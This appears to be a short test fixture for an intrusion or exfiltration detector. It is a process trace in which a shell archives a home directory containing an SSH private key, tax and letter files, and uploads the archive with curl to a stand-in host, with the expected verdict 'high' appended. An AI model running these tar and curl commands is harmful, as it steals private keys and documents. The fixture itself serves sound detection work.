# Keys and papers into an archive, and out.
sh is /bin/bash uid=1000
sh fork tar
tar exec /bin/tar "tar czf /tmp/a.tgz /home/a"
tar open /home/a/.ssh/id_ed25519
tar open /home/a/taxes.ods
tar open /home/a/letters.txt
tar write /tmp/a.tgz
sh fork curl
curl exec /usr/bin/curl "curl -T /tmp/a.tgz http://203.0.113.9"
curl open /tmp/a.tgz
expect high takes out an archive of private files
